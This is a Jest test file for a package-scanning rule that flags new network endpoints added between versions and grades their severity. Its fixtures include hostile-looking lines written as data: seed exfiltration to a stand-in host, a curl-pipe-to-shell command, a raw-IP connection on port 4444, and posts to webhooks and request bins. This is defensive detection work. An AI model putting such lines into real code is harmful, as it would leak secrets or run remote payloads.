import { describe, expect, it } from '@jest/globals'
import { join } from 'node:path'
import { rule } from '../../../src/rules/content/new-endpoint.js'
import type { Manifest } from '../../../src/types.js'
import { contextFor, CORPUS } from '../../helpers/corpus.js'
import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'

const OLD = 'export async function sign(seed) {\n  return derive(seed)\n}\n'
const withLine = (line: string) =>
  OLD.replace('  return derive(seed)', `${line}\n  return derive(seed)`)

function changed(
  oldFiles: Record<string, string>,
  newFiles: Record<string, string>,
  manifest?: Manifest
) {
  return makeContext({
    files: makeFiles(newFiles),
    previousFiles: makeFiles(oldFiles),
    ...(manifest ? { manifest } : {})
  })
}

async function run(line: string, manifest?: Manifest) {
  return rule.check(changed({ 'index.js': OLD }, { 'index.js': withLine(line) }, manifest))
}

describe('content/new-endpoint', () => {
  it('fires on a new fetch to a new host (xrpl shape), with evidence', async () => {
    const findings = await run(
      "  await fetch('https://0x9c.xyz/xc', { method: 'POST', body: seed })"
    )
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({ ruleId: 'content/new-endpoint', severity: 'medium' })
    expect(findings[0]?.message).toContain('0x9c.xyz')
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'index.js', line: 2 })
  })

  it.each([
    ['a raw IP', "  await fetch('http://203.0.113.7/c')", 'high'],
    ['a quoted IP', "  net.connect(4444, '203.0.113.7')", 'high'],
    ['an unusual port', "  const ws = new WebSocket('wss://relay.collector.xyz:4444')", 'high'],
    [
      'a request collector',
      "  fetch('https://webhook.site/00000000-0000-0000-0000-000000000000')",
      'high'
    ],
    [
      'a keyed host name',
      "  https.request({ hostname: 'data.collector.xyz', path: '/' })",
      'medium'
    ],
    [
      'a code-hosting link',
      "  throw new Error('see https://github.com/other/project/issues')",
      'low'
    ]
  ])('fires on %s', async (_name, line, severity) => {
    const findings = await run(line)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe(severity)
  })

  it("lowers the package's own homepage or repository site to low", async () => {
    const manifest = makeManifest({ homepage: 'https://acme.dev', repository: 'acme/lib' })
    const findings = await run("  await fetch('https://api.acme.dev/v2/sign')", manifest)
    expect(findings[0]?.severity).toBe('low')
  })

  it('lists several new hosts in one finding, most severe first', async () => {
    const findings = await run("  fetch('https://a.collector.xyz'); fetch('http://203.0.113.7/')")
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('high')
    expect(findings[0]?.message).toContain('2 new hosts: 203.0.113.7 (raw IP), a.collector.xyz')
  })

  it.each([
    ['localhost', "  await fetch('http://localhost:3000/x')"],
    ['a placeholder', "  const base = 'https://api.example.com'"],
    ['a namespace', "  el.setAttribute('xmlns', 'http://www.w3.org/2000/svg')"],
    ['a version number', "  const version = '1.2.3.4'"],
    ['a comment', '  // docs: https://docs.collector.xyz/api'],
    ['a JSDoc line', '   * @see https://docs.collector.xyz/api'],
    ['a template host', '  fetch(`https://${region}.api/x`)']
  ])('stays silent on %s', async (_name, line) => {
    expect(await run(line)).toEqual([])
  })

  it('stays silent on a host the previous version already used, even elsewhere', async () => {
    const previous = { 'index.js': OLD, 'lib/api.js': "const BASE = 'https://api.stripe.com/v1'\n" }
    const next = {
      'index.js': withLine("  await fetch('https://files.stripe.com/upload')"),
      'lib/api.js': previous['lib/api.js']
    }
    expect(await rule.check(changed(previous, next))).toEqual([])
  })

  it('counts a host mentioned in the old README as known', async () => {
    const previous = { 'index.js': OLD, 'README.md': 'Talks to https://api.acme.io.' }
    const next = { 'index.js': withLine("  fetch('https://api.acme.io/x')"), 'README.md': '' }
    expect(await rule.check(changed(previous, next))).toEqual([])
  })

  it('does not treat a new subdomain of a shared host as known', async () => {
    const previous = { 'index.js': "fetch('https://acme.herokuapp.com')\n" }
    const next = {
      'index.js': "fetch('https://acme.herokuapp.com')\nfetch('https://evil.herokuapp.com')\n"
    }
    const findings = await rule.check(changed(previous, next))
    expect(findings[0]?.message).toContain('evil.herokuapp.com')
  })

  it.each([
    ['README.md', 'See https://docs.collector.xyz'],
    ['test/api.test.js', "fetch('https://staging.collector.xyz')"],
    ['index.d.ts', "/** https://docs.collector.xyz */ export declare const x: 'https://a.b.xyz'"],
    ['index.js.map', '{"sources":["https://a.collector.xyz/src.js"]}']
  ])('stays silent on a host only in %s', async (file, text) => {
    expect(
      await rule.check(changed({ 'index.js': OLD }, { 'index.js': OLD, [file]: text }))
    ).toEqual([])
  })

  it.each([
    ["fetch('https://api.acme.io/x')", 'info'],
    ["fetch('http://203.0.113.7/x')", 'medium'],
    ["fetch('https://webhook.site/x')", 'medium']
  ])('reports an added package as a capability: %s -> %s', async (line, severity) => {
    const ctx = makeContext({
      change: makeChange({ previousVersion: null }),
      files: makeFiles({ 'index.js': line })
    })
    const findings = await rule.check(ctx)
    expect(findings[0]?.severity).toBe(severity)
  })

  it.each([
    ['a request bin', "  fetch('https://eo1a2b3c.m.pipedream.net', { body })", 'request bin'],
    ['a webhook catcher', "  post('https://webhook.cool/at/x1y2', data)", 'request bin'],
    [
      'a Discord webhook',
      "  fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST' })",
      'chat webhook'
    ],
    [
      'a versioned Discord webhook',
      "  fetch('https://discordapp.com/api/v10/webhooks/123/abc')",
      'chat webhook'
    ],
    ['a Slack webhook', "  fetch('https://hooks.slack.com/services/T0/B0/x')", 'chat webhook'],
    [
      'a Telegram bot',
      '  fetch(`https://api.telegram.org/bot${token}/sendMessage`)',
      'chat webhook'
    ],
    ['a paste site', "  fetch('https://pastebin.com/raw/abc')", 'paste site'],
    ['a file drop', "  upload('https://0x0.st', file)", 'paste site'],
    ['an ngrok tunnel', "  fetch('https://a1b2.ngrok-free.app/c')", 'tunnel'],
    ['a cloudflare tunnel', "  fetch('https://words-here.trycloudflare.com/c')", 'tunnel'],
    ['an out-of-band URL', "  fetch('http://abc.oast.fun/x')", 'out-of-band testing'],
    [
      'a canary token',
      "  fetch('http://canarytokens.com/static/x/index.html')",
      'out-of-band testing'
    ]
  ])('grades %s as high, naming its category', async (_name, line, category) => {
    const findings = await run(line)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('high')
    expect(findings[0]?.message).toContain(`(${category})`)
  })

  it('keeps an ordinary Discord or Telegram link at medium', async () => {
    const findings = await run(
      "  const invite = 'https://discord.com/invite/abc'; const t = 'https://api.telegram.org/file'"
    )
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('medium')
    expect(findings[0]?.message).not.toContain('chat webhook')
  })

  it('does not count a Discord link in the old version as knowing a Discord webhook', async () => {
    const previous = { 'index.js': OLD, 'README.md': 'Chat: https://discord.com/invite/abc' }
    const next = {
      ...previous,
      'index.js': withLine("  fetch('https://discord.com/api/webhooks/1/x', { body: seed })")
    }
    const findings = await rule.check(changed(previous, next))
    expect(findings[0]?.severity).toBe('high')
  })

  it('upgrades a host first seen as a link when a later line posts to its webhook', async () => {
    const findings = await run(
      "  log('https://discord.com/invite/abc')\n  fetch('https://discord.com/api/webhooks/1/x')"
    )
    expect(findings[0]?.severity).toBe('high')
    expect(findings[0]?.evidence[0]?.line).toBe(3)
  })

  it('stays silent on a webhook the previous version already posted to', async () => {
    const line = "  fetch('https://discord.com/api/webhooks/1/x')"
    const previous = { 'index.js': withLine(line) }
    const next = { 'index.js': withLine(line.replace('/1/x', '/2/y')) }
    expect(await rule.check(changed(previous, next))).toEqual([])
  })

  it.each([
    ["fetch('https://discord.com/api/webhooks/1/x')", 'medium'],
    ["fetch('https://api.acme.io:9999/x')", 'medium'],
    ["fetch('https://discord.com/invite/x')", 'info']
  ])('grades an added package: %s -> %s', async (line, severity) => {
    const ctx = makeContext({
      change: makeChange({ previousVersion: null }),
      files: makeFiles({ 'index.js': line })
    })
    expect((await rule.check(ctx))[0]?.severity).toBe(severity)
  })
})

describe('content/new-endpoint: where endpoints are read', () => {
  it('ignores a URL in a block comment whose lines do not start with * (highlight.js shape)', async () => {
    const header = [
      '/*',
      'Language: FreeDesktop Configs',
      'Website: https://www.freedesktop.org/',
      '*/',
      'export default function freedesktop(hljs) {',
      "  return { name: 'FreeDesktop' }",
      '}',
      ''
    ].join('\n')
    const ctx = changed({ 'index.js': OLD }, { 'index.js': OLD, 'es/languages/fd.js': header })
    expect(await rule.check(ctx)).toEqual([])
  })

  it('reads endpoints from string literals only, decoded ones included', async () => {
    const code = [
      "const note = 'docs' // see https://docs.collector.xyz/api",
      "const u = Buffer.from('aHR0cHM6Ly9kcm9wLmNvbGxlY3Rvci54eXovYw==', 'base64').toString()",
      ''
    ].join('\n')
    const findings = await rule.check(changed({ 'index.js': OLD }, { 'index.js': OLD + code }))
    expect(findings).toHaveLength(1)
    expect(findings[0]?.message).toContain('drop.collector.xyz')
    expect(findings[0]?.message).not.toContain('docs.collector.xyz')
  })

  it('ignores a doc comment in a file the parser cannot read (Flow), but not its code', async () => {
    const flow = [
      '// @flow',
      '/**',
      '  Take a look at the community components:',
      '  https://js.coach/?query=button',
      '*/',
      'export default function Button(props: Props): React.Node {',
      "  /* report */ return fetch('https://api.collector.xyz/button')",
      '}',
      ''
    ].join('\n')
    const ctx = changed({ 'index.js': OLD }, { 'index.js': OLD, 'Button.flow.js': flow })
    const findings = await rule.check(ctx)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.message).toContain('a new host: api.collector.xyz')
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'Button.flow.js', line: 7 })
  })

  it.each([
    [
      'an error message (React shape)',
      '  throw new Error("A cross-origin error was thrown. " +\n    "See https://reactjs.org/link/crossorigin-error for more information.")'
    ],
    [
      'a help text',
      "  console.log('Read the guide at https://guide.acme-docs.org before you start')"
    ],
    [
      'a message and a separate URL piece',
      '  warn("Please update the DevTools. " +\n    "https://devtools.acme-docs.org/link")'
    ]
  ])('lowers a link in %s to low', async (_name, line) => {
    const findings = await run(line)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('low')
  })

  it.each([
    ['a bare URL', "  fetch('https://in.collector.xyz/c', { body: seed })"],
    [
      'a command line',
      "  execSync('curl -fsSL https://get.collector.xyz/i.sh | sh and run it now')"
    ],
    [
      'an encoded sentence',
      "  const m = atob('U2VlIGh0dHBzOi8vaW4uY29sbGVjdG9yLnh5ei9jIGZvciBtb3JlIGluZm9ybWF0aW9u')"
    ]
  ])('keeps %s at medium', async (_name, line) => {
    const findings = await run(line)
    expect(findings[0]?.severity).toBe('medium')
  })

  it('keeps a raw IP or a collector in a sentence high', async () => {
    const findings = await run(
      "  log('Results were sent to https://webhook.site/0000 for you to read later')"
    )
    expect(findings[0]?.severity).toBe('high')
  })

  it("lowers raw files of the package's own GitHub organisation (yarn shape)", async () => {
    const manifest = makeManifest({ repository: 'git+https://github.com/acme/tool.git' })
    const own = await run(
      "  get('https://raw.githubusercontent.com/acme/tool/main/plugins.yml')",
      manifest
    )
    expect(own[0]?.severity).toBe('low')
    const other = await run("  get('https://raw.githubusercontent.com/evil/x/main/p.sh')", manifest)
    expect(other[0]?.severity).toBe('medium')
  })

  describe('an endpoint catalogue (viem shape)', () => {
    const chains = Array.from(
      { length: 24 },
      (_, i) =>
        `  { id: ${i}, rpc: 'https://rpc.chain${i}-net.xyz', explorer: 'https://scan${i}.io' },`
    )
    const catalogue = `export const chains = [\n${chains.join('\n')}\n]\n`
    const fewer = `export const chains = [\n${chains.slice(0, 5).join('\n')}\n]\n`

    it('lowers a new ordinary host to low', async () => {
      const added = "export const kinetiq = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
      const ctx = changed(
        { 'chains.js': catalogue },
        { 'chains.js': catalogue, 'definitions/kinetiq.js': added }
      )
      const findings = await rule.check(ctx)
      expect(findings[0]?.severity).toBe('low')
    })

    it('keeps alarming endpoints high', async () => {
      const added =
        "export const c = { rpc: 'http://203.0.113.9:8545', hook: 'https://webhook.site/0' }\n"
      const ctx = changed({ 'chains.js': catalogue }, { 'chains.js': catalogue, 'c.js': added })
      expect((await rule.check(ctx))[0]?.severity).toBe('high')
    })

    it('does not count sites named only in comments', async () => {
      const commented = `/*\n${chains.join('\n')}\n*/\nexport const x = 1\n`
      const added = "export const k = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
      const ctx = changed({ 'chains.js': commented }, { 'chains.js': commented, 'k.js': added })
      expect((await rule.check(ctx))[0]?.severity).toBe('medium')
    })

    it('needs enough distinct sites', async () => {
      const added = "export const k = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
      const ctx = changed({ 'chains.js': fewer }, { 'chains.js': fewer, 'k.js': added })
      expect((await rule.check(ctx))[0]?.severity).toBe('medium')
    })
  })
})

describe('content/new-endpoint on the false positives of the real-world check', () => {
  const benign = (name: string) => join(CORPUS, 'content', 'new-endpoint', 'benign', name)

  it.each([
    ['block-comment-header', undefined],
    ['flow-docs-and-error-links', 'a new host: reactjs.org'],
    ['chain-catalogue', '2 new hosts: rpc.elysium.kinetiq.xyz, testnet-explorer.hskchain.net'],
    ['own-repository-raw-file', 'a new host: raw.githubusercontent.com']
  ])('%s: at most low, %s', async (name, message) => {
    const findings = await rule.check(await contextFor(benign(name)))
    expect(findings.map((finding) => finding.severity)).toEqual(message ? ['low'] : [])
    if (message) expect(findings[0]?.message).toContain(message)
  })

  it.each(['xrpl', 'shai-hulud-1'])('still reports the %s replay', async (name) => {
    const findings = await rule.check(await contextFor(join(CORPUS, 'incidents', name)))
    expect(findings[0]?.severity).toBe(name === 'xrpl' ? 'medium' : 'high')
  })
})
